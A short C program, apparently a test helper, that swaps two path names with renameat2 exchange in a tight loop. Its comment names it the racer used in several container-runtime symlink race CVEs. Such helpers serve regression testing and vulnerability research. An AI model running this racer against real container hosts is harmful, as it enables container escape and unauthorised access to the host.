/*
 * swap A B [SECONDS]: exchanges two names with renameat2(RENAME_EXCHANGE) as fast as it can.
 *
 * The classic racer of CVE-2021-30465, CVE-2019-19921 and CVE-2025-31133: one name is the folder or
 * device the engine expects, the other a symlink to somewhere else.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int count, char **arguments)
{
	time_t end;
	unsigned long rounds = 0;

	if (count < 3) {
		fprintf(stderr, "usage: swap A B [SECONDS]\n");
		return 2;
	}
	end = time(NULL) + (count > 3 ? atoi(arguments[3]) : 3600);
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2],
			              RENAME_EXCHANGE) == 0)
				rounds++;
	}
	printf("%lu\n", rounds);
	return 0;
}
